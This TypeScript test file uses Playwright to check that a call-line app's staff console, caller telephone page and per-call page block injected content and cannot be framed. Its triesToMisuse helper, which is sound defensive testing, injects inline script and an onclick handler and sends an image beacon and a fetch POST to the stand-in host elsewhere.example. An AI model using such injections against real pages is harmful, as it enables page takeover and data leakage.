import type { Browser, Page } from "playwright-core";
import { describe, expect, onTestFinished, test } from "vitest";

import { inBrowser, openTab } from "../support/browser.ts";
import { REHEARSAL } from "../support/rehearsal.ts";
import { dial } from "./telephones.ts";
import { lineWithConsole, signIn } from "./the-line.ts";

/** A tab that says what the policies of its pages refused. */
async function watched(browser: Browser): Promise<{ page: Page; refused: readonly string[] }> {
  const page = await openTab(browser, "about:blank");
  onTestFinished(() => page.context().close());
  const refused: string[] = [];
  await page.exposeFunction("wasRefused", (what: string) => void refused.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { violatedDirective, blockedURI, sourceFile, lineNumber } = event;
      Reflect.get(
        globalThis,
        "wasRefused",
      )(`${violatedDirective} ${blockedURI} ${sourceFile} ${lineNumber}`);
    });
  });
  return { page, refused };
}

/** What somebody who got their words into a page would have it do. */
async function triesToMisuse(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'taken over'";
    document.body.append(script);
    const button = document.createElement("button");
    button.setAttribute("onclick", "document.title = 'taken over'");
    document.body.append(button);
    button.click();
    const image = document.createElement("img");
    image.src = "https://elsewhere.example/?what=was-here";
    document.body.append(image);
    await fetch("https://elsewhere.example/", { method: "POST" }).catch(() => undefined);
  });
}

describe("what browsers are told", () => {
  inBrowser((browser) => {
    test("refuses nothing a shift, a call or a telephone needs, and everything somebody slips in", async () => {
      const line = await lineWithConsole();
      const staff = await watched(browser());
      await staff.page.goto(line.console);
      await signIn(staff.page, "robin");
      await staff.page.getByRole("button", { name: "Go on shift" }).click();
      await staff.page.getByRole("heading", { name: "You can be reached" }).waitFor();

      const caller = await watched(browser());
      await caller.page.goto(line.phones);
      await caller.page.getByLabel("Your number").fill("+15555550131");
      await caller.page.getByRole("button", { name: "Take this telephone" }).click();
      await caller.page.getByText("Ready. It rings here.").waitFor();
      await dial(caller.page, REHEARSAL);

      await staff.page.getByRole("heading", { name: "A call is ringing" }).waitFor();
      await staff.page.keyboard.press("Enter");
      await staff.page.getByRole("heading", { name: "You are with them" }).waitFor();
      await caller.page.getByText("Connected with people").waitFor();
      await staff.page.getByLabel("Where: address").fill("12 Rehearsal Lane");
      await staff.page.getByText(/^Saved /).waitFor();

      const own = await watched(browser());
      await own.page.goto(await pageOfCall(line));
      await own.page.getByRole("button").click();
      await own.page.getByRole("heading", { name: "You are with them" }).waitFor();

      for (const tab of [staff, caller, own]) {
        expect(tab.refused).toEqual([]);
        const title = await tab.page.title();
        await triesToMisuse(tab.page);
        expect(await tab.page.title()).toBe(title);
        await expect
          .poll(() => tab.refused.map((one) => one.split(" ")[0]))
          .toEqual(
            expect.arrayContaining([
              "script-src-elem",
              "script-src-attr",
              "img-src",
              "connect-src",
            ]),
          );
      }
    });

    test("no other page frames the console, or a telephone", async () => {
      const line = await lineWithConsole();
      for (const url of [line.console, line.phones]) {
        const page = await openTab(browser(), url);
        onTestFinished(() => page.context().close());
        const framed = await page.evaluate(async (src) => {
          const frame = document.createElement("iframe");
          frame.src = src;
          const loaded = new Promise((resolve) => {
            frame.addEventListener("load", resolve);
          });
          document.body.append(frame);
          await loaded;
          return frame.contentDocument?.querySelector("main, #console") ?? null;
        }, url);
        expect(framed).toBeNull();
      }
    });
  });
});

/** The page of the call that Robin has, as it is texted to somebody who wants one. */
async function pageOfCall(line: Awaited<ReturnType<typeof lineWithConsole>>): Promise<string> {
  await line.database.db.staff.update({ where: { id: "robin" }, data: { wantsPage: true } });
  const [session] = await line.reads.openSessions();
  const legId = session?.company.responder?.legId;
  if (session === undefined || legId === undefined) throw new Error("Robin is with nobody");
  const whose = { staffId: "robin", sessionId: session.id, legId };
  const link = await line.callPages.make(whose, line.line.clock.now());
  if (link === null) throw new Error("No page was made");
  return link;
}
